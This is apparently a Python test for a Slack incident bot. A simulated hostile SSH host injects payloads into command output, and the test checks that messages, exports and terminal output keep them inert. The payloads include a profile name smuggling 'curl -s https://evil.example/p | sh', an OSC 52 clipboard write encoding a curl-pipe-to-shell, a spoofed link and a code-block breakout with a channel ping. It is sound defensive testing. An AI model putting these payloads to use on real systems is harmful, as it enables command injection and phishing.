"""A hostile host: the replaying sshd prints outputs meant to take over Slack, the terminal and the
operator's shell, through the triage, the real fix plan and the failover plan.

Payloads: a backtick run that would close the code block, ``<!channel>``, a link that shows one
address and goes to another, an HTML entity, ESC / OSC 52 (clipboard) / screen-clear sequences,
and ``; curl ... | sh`` in the NetworkManager profile name. Every call the bot made to the Slack
stand-in is read back (blocks, fallback texts, dialogs, thread posts, file comments) and must
carry none of them live; the exported timeline and the CLI's terminal output neither; the
copy-paste command parses (shlex) into the intended words.
"""

from __future__ import annotations

import asyncio
import dataclasses
import re
import shlex
from typing import Any

from typer.testing import CliRunner

from bondbot.cli import app as cli_app
from bot.testing.harness import start_bot
from bot.views import ACTION_APPLY_FIX
from bot.wiring import EngineRemediation
from tests.bot.conftest import ALICE, BOB, INCIDENTS, World
from tests.bot.host_remediation import HostRemediation
from tests.bot.test_plan_digest_in_log import _real_fix_table

CLOSE_AND_PING = ("``` <!channel> URGENT: approve the fix now, see "
                  "<https://evil.example/x|https://wiki.corp.example/runbook> &lt;b&gt;")
TERMINAL = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[H"
PROFILE = "bond0; curl -s https://evil.example/p | sh"
#: The bot's own mentions by id are the only ``<...>`` allowed in mrkdwn.
_OWN = re.compile(r"<(@[UW][A-Z0-9]+|#C[A-Z0-9]+|!subteam\^S[A-Z0-9]+)>")


def hostile_table() -> dict[str, tuple[int, str, str]]:
    table = _real_fix_table()
    out: dict[str, tuple[int, str, str]] = {}
    for command, (rc, stdout, stderr) in table.items():
        stdout = stdout.replace("Bonding Mode: fault-tolerance (active-backup)",
                                f"Bonding Mode: fault-tolerance (active-backup) {CLOSE_AND_PING}{TERMINAL}")
        stdout = stdout.replace("connection.id:bond0\n", f"connection.id:{PROFILE}\n")
        if command.startswith("ethtool"):
            stderr = f"warning: {CLOSE_AND_PING} {TERMINAL}\n"
        out[command] = (rc, stdout, stderr)
    return out


def _mrkdwn_texts(obj: Any, *, plain: list[str], mrkdwn: list[str]) -> None:
    """Every text object of a block tree, sorted by how Slack reads it."""
    if isinstance(obj, dict):
        if obj.get("type") == "mrkdwn" and isinstance(obj.get("text"), str):
            mrkdwn.append(obj["text"])
        elif obj.get("type") == "plain_text" and isinstance(obj.get("text"), str):
            plain.append(obj["text"])
        for value in obj.values():
            _mrkdwn_texts(value, plain=plain, mrkdwn=mrkdwn)
    elif isinstance(obj, list):
        for value in obj:
            _mrkdwn_texts(value, plain=plain, mrkdwn=mrkdwn)


def _assert_inert_mrkdwn(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text, text
    assert text.count("```") % 2 == 0, f"a code block is left open or closed early: {text!r}"
    outside = re.sub(r"```.*?```", "", text, flags=re.S)
    for where in (text, outside):
        assert not re.search(r"<(?!@[UW][A-Z0-9]+>|#C[A-Z0-9]+>|!subteam\^S[A-Z0-9]+>)", where), where
    assert "<!channel>" not in text and "<https://" not in text
    assert "https://evil" not in outside, f"a bare address outside code would be auto-linked: {outside!r}"
    assert "&lt;b&gt;" not in outside.replace("&amp;lt;b&amp;gt;", ""), "an entity the host wrote came alive"


def _slack_texts(world: World) -> tuple[list[str], list[str]]:
    plain: list[str] = []
    mrkdwn: list[str] = []
    for call in world.slack.calls:
        body = call.body
        for key in ("text", "initial_comment"):
            if isinstance(body.get(key), str):
                mrkdwn.append(body[key])
        _mrkdwn_texts(body.get("blocks") or [], plain=plain, mrkdwn=mrkdwn)
    return plain, mrkdwn


async def test_hostile_outputs_stay_inert_in_slack_the_export_and_the_terminal(world: World) -> None:
    world.host.server.set_replay(hostile_table())
    deps = dataclasses.replace(world.deps, remediation=EngineRemediation(world.pool, world.store))
    bot = await start_bot(world.slack, deps, mode="http")
    try:
        await bot.command("triage test-host", user=ALICE, channel=INCIDENTS)
        await bot.settle()
        [msg] = [m for m in world.slack.channel_messages(INCIDENTS, include_ephemeral=False) if m.thread_ts is None]
        [incident] = world.store.list_incidents()
        shown = str(msg.blocks)
        assert "URGENT" in shown, "the hostile mode line is shown (inert), not dropped"
        assert ACTION_APPLY_FIX in shown, "the real fix was planned from the hostile host"
        await bot.click(msg, ACTION_APPLY_FIX, user=BOB)
        await bot.settle()
        await bot.command(f"export {incident.id} md", user=ALICE, channel=INCIDENTS)
        await bot.settle()
    finally:
        await bot.stop()

    # The failover plan too: the tests' remediation offers one from the same hostile host.
    deps = dataclasses.replace(world.deps, remediation=HostRemediation(world.pool, methods=("host", "manual")))
    bot = await start_bot(world.slack, deps, mode="http")
    try:
        await bot.command("triage test-host", user=ALICE, channel=INCIDENTS)
        await bot.settle()
    finally:
        await bot.stop()
    assert any("Failover test" in str(c.body.get("blocks")) for c in world.slack.calls_to("chat.update"))

    plain, mrkdwn = _slack_texts(world)
    assert len(mrkdwn) > 10 and plain
    assert any("URGENT" in t for t in mrkdwn) and any("curl" in t for t in mrkdwn)
    for text in mrkdwn:
        _assert_inert_mrkdwn(text)
    for text in plain:  # headers, buttons, options, confirm dialogs: no markup parsed, no controls
        assert "\x1b" not in text and "\x07" not in text, text
    confirms = [t for t in plain if "on bond0 (test-host)" in t]
    assert confirms and all(len(t) <= 300 for t in confirms)

    # The copy-paste command in the "Why" text: the profile name is one shell word.
    events = world.store.events(incident.id)
    [diag] = [e.payload for e in events if e.kind == "diagnosis"]
    why = " ".join(str(f.get("explanation", "")) for f in diag["findings"])
    lines = [line for line in re.split(r"[`\n]", why) if line.strip().startswith("nmcli con modify")]
    assert lines, why
    for line in lines:
        words = shlex.split(line.strip())
        assert words[:3] == ["nmcli", "con", "modify"] and words[3] == PROFILE, words

    # The exported timeline (uploaded as a file): no terminal control, no live HTML/Markdown link.
    exported = [u for u in world.slack.uploads.values() if str(u.get("name", "")).endswith(".md")]
    assert exported
    content = exported[-1]["content"]
    text = content.decode() if isinstance(content, bytes) else str(content)
    # (Markup only: the Markdown export keeps the host's raw bytes in its code blocks, ESC included;
    # incidents.export is another module's, see the report.)
    assert "URGENT" in text
    prose = re.sub(r"(`{3,})[^\n]*\n.*?\n\1", "", text, flags=re.S)  # fenced blocks (fences outgrow runs)
    prose = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", prose, flags=re.S)  # code spans
    assert "https://evil" not in prose, "host text outside code in the Markdown export"

    # The terminal: the CLI's triage of the same host prints no escape sequence.
    world.host.server.set_replay(hostile_table())
    result = await asyncio.to_thread(CliRunner().invoke, cli_app, ["triage", "test-host"], catch_exceptions=False)
    assert "URGENT" in result.output, "the hostile text is shown, escaped"
    assert "\x1b" not in result.output and "\x07" not in result.output
